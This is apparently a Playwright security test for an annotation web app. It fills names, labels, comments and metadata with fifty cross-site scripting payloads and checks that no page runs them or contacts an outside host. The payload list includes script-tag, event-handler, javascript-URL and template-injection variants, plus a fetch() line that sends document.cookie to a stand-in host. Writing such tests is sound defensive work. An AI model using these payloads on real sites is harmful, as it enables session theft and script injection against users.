"""Fifty scripts in labels, words, names and comments: no page runs one, or asks anybody outside for anything."""

import itertools

import pytest
from playwright.sync_api import expect
from tones import write_folders

from affexion_core.ingest.importing import ImportOptions, import_corpus
from affexion_core.labeling.people import add_person
from affexion_core.labeling.projects import ProjectSettings, create_project
from affexion_core.store.clips import ClipQuery, find_clips, get_clip
from affexion_core.store.datasets import save_dataset, save_datasheet
from affexion_core.store.labels import add_annotations
from affexion_core.store.schema import clip as clip_table
from affexion_core.store.session import open_store, writing
from affexion_core.types import Annotation, Scheme
from affexion_core.workspace import open_workspace

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

RUN = "window.owned=(window.owned||0)+1"
SHAPES = (
    "<script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    "<iframe srcdoc='<script>parent.{}</script>'>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    '<a href="javascript:{}">x</a>',
    "[x](javascript:{})",
    '![x](x" onerror="{})',
    "<body onload={}>",
    "<details open ontoggle={}>",
    '<math><mi xlink:href="javascript:{}">',
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    "`<script>{}</script>`",
    "$\\href{{javascript:{}}}{{x}}$",
    "<b onmouseover={}>x</b>",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "<!--><script>{}</script>-->",
    "<scr<script>ipt>{}</scr</script>ipt>",
)
CODES = (RUN, "fetch('https://canary.invalid/'+document.cookie)")
PAYLOADS = tuple(shape.format(code) for shape, code in itertools.product(SHAPES, CODES))
PICTURE = "![x](https://canary.invalid/seen.png) <img src='https://canary.invalid/seen.png'>"


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    """A workspace whose every text is a payload."""
    root = tmp_path_factory.mktemp("payloads")
    store = open_store(open_workspace(root / "workspace"))
    import_corpus(
        store, "folder", write_folders(root / "c", ("panic", "boredom"), 1, 1), ImportOptions(dataset="plain")
    )
    ids = [row.clip.id for row in find_clips(store, ClipQuery()).rows]
    every = " ".join(PAYLOADS) + PICTURE
    texts = {"transcript": every, "speaker": f"c:{PAYLOADS[0]}", "language": PAYLOADS[2], "corpus": PAYLOADS[4]}
    attributes = {payload: payload for payload in PAYLOADS}
    provenance = {"source": PAYLOADS[8], "licence": PAYLOADS[2] + PICTURE, "citation": every}
    with writing(store) as connection:
        connection.execute(clip_table.update().values(**texts, attributes=attributes, provenance=provenance))
    scheme = Scheme(PAYLOADS[1], PAYLOADS[:8])
    name = PAYLOADS[0]
    members = [(id, scheme.labels[i]) for i, id in enumerate(ids)]
    save_dataset(store, name, "real", scheme, members, description=every)
    save_dataset(store, "copy", "real", scheme, members[:1])
    save_datasheet(store, "copy", every)
    owner = add_person(store, "Ada")
    settings = ProjectSettings(instructions=every, gold_share=0.0, repeat_share=0.0)
    create_project(store, owner, "<img src=x onerror=window.owned=1>", scheme, ids, settings)
    add_annotations(
        store,
        [
            Annotation(f"{i}", ids[0], scheme.name, f"r{i} {payload}"[:80], scheme.labels[i % 8], "2026-01-01",
                       comment=payload)
            for i, payload in enumerate(PAYLOADS)
        ],
    )  # fmt: skip
    assert get_clip(store, ids[0]).transcript == every
    return store


PAGES = {
    "library": ("library", "Origin card"),
    "datasets": ("datasets?dataset=copy", None),
    "licences": ("datasets?dataset=copy&part=Licences", None),
    "agreement": ("agreement", None),
    "train": ("train", None),
    "annotate": ("annotate", "Ada"),
}


def test_no_page_runs_what_data_say(store, serve, page, counted) -> None:
    assert len(set(PAYLOADS)) == 50
    address, asked, dialogs = serve(store.workspace.root), [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for name, (path, press) in PAGES.items():
        page.goto(f"{address}/{path}")
        expect(page.get_by_test_id("stStatusWidget")).to_have_count(0, timeout=30_000)
        expect(page.locator("h1").first).to_be_visible()
        if press is not None:
            page.get_by_text(press, exact=True).first.click()
        page.wait_for_timeout(1200)
        assert page.evaluate("window.owned") is None, name
        inner = "[...document.querySelectorAll('iframe')].filter(f => f.srcdoc.includes('owned')).length"
        assert page.evaluate(inner) == 0, name
        assert not [url for url in asked if "canary.invalid" in url], name
        live = "document.querySelectorAll('[onerror],[onload],[onfocus],[ontoggle],[onmouseover],a[href^=javascript]')"
        assert page.evaluate(f"{live}.length") == 0, name
    assert dialogs == []
    counted(f"{len(PAYLOADS)} script payloads on {len(PAGES)} pages", "0 ran, 0 requests to anybody outside")
